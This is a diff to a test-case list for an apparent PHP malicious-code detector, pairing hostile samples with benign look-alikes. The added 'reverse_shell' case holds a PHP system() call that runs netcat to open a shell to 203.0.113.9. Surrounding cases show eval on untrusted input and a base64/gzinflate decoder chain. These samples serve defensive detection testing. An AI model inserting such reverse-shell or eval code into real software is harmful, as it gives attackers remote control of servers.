@@ -241,6 +241,15 @@ CASES = [
     ("undefined_variable_to_sink",
      "<?php\n$phpcode = trim($p1);\n$phpcode = \"<?php\\n{$phpcode}\\n?>\";\neval(\"?\".\">$phpcode<?\");\n?>",
      "<?php\n$phpcode = trim('echo 1;');\neval(\"?\".\">$phpcode<?\");\n?>"),
+    # A deployment script's rsync over ssh: "rsync -e" holds the letters of "nc -e" but runs no netcat.
+    ("reverse_shell",
+     "<?php system('nc -e /bin/sh 203.0.113.9 4444');",
+     "<?php $cmd = 'rsync -e ' . escapeshellarg('ssh -p 2222') . ' -avz ./ deploy@example.org:/srv/www/';"),
+    # A library's map keeping an invariant as a comment (phpseclib's TBSCertificate): nothing on that line runs.
+    ("undefined_variable_to_sink",
+     "<?php\nabstract class Map {\n    const MAP = ['type' => 16];\n}\nassert($tbs['children']['signature']);",
+     "<?php\nabstract class Map {\n    // assert($tbs['children']['signature'] == $cert['children']['algorithm'])\n"
+     "    const MAP = ['type' => 16];\n}"),
     ("decoder_chain",
      "<?php $p = 'eNpLLSrKL0pVyC9KAQAbwAQy'; echo gzinflate(base64_decode($p));",
      "<?php $back = base64_decode(urldecode($_GET['return_url'])); $id = base64_decode(rawurldecode($token));"),
